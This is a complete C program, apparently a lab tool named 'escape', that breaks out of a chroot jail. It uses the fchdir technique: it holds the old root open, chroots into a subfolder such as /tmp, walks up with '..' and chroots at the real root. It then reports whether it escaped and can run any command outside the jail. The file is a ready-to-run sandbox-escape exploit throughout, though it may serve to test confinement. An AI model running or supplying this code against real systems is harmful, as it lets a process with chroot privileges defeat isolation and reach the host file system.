/*
 * escape: leaves a chroot, if it can. A program of its own, linked statically, so that it runs in a
 * root file system that has no library. Built apart from lab05.
 *
 *     escape [COMMAND [ARGUMENT...]]
 *
 * It needs CAP_SYS_CHROOT and a kernel that keeps its word: chroot(2) changes where lookups of "/"
 * begin, and nothing else. So:
 *   1. hold the present root open, as a directory;
 *   2. chroot once more, into a folder: the directory held is now above the root;
 *   3. fchdir to it: ".." stops at the root, but a walk that starts above it never meets it;
 *   4. walk up until ".." leads nowhere, and make that the root.
 * After pivot_root(2) step 4 ends where it began: above the root of a mount namespace is nothing.
 *
 * Prints "MAJOR:MINOR INODE" of "/" before and after. With a COMMAND, executes it at the root
 * that was reached. Exit status: 0 escaped, 1 still inside, 2 an error (told on stderr).
 */
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

enum { DEEPEST = 64 }; /* folders from "/" down to any root that we may be in */

static int fail(const char *what)
{
    fprintf(stderr, "escape: ");
    perror(what);
    return 2;
}

static void print_root(const char *when, const struct stat *root)
{
    printf("%s %u:%u %ju\n", when, major(root->st_dev), minor(root->st_dev),
           (uintmax_t)root->st_ino);
}

/* Any folder below the root will do. None has to be made, so a read-only tree is no defence. */
static bool chroot_deeper(void)
{
    return chroot("/tmp") == 0 || chroot("/bin") == 0 || chroot("/proc") == 0;
}

int main(int argc, char **argv)
{
    struct stat before, after;

    if (stat("/", &before) < 0)
        return fail("/");
    print_root("before", &before);

    int held = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (held < 0)
        return fail("open /");
    if (!chroot_deeper())
        return fail("chroot");
    if (fchdir(held) < 0)
        return fail("fchdir");
    for (int i = 0; i < DEEPEST; i++)
        if (chdir("..") < 0)
            return fail("chdir ..");
    if (chroot(".") < 0)
        return fail("chroot .");

    if (stat("/", &after) < 0)
        return fail("/");
    print_root("after ", &after);
    bool escaped = before.st_dev != after.st_dev || before.st_ino != after.st_ino;
    puts(escaped ? "escaped" : "still inside");
    fflush(stdout);

    if (argc > 1) {
        execvp(argv[1], argv + 1);
        return fail(argv[1]);
    }
    return escaped ? 0 : 1;
}
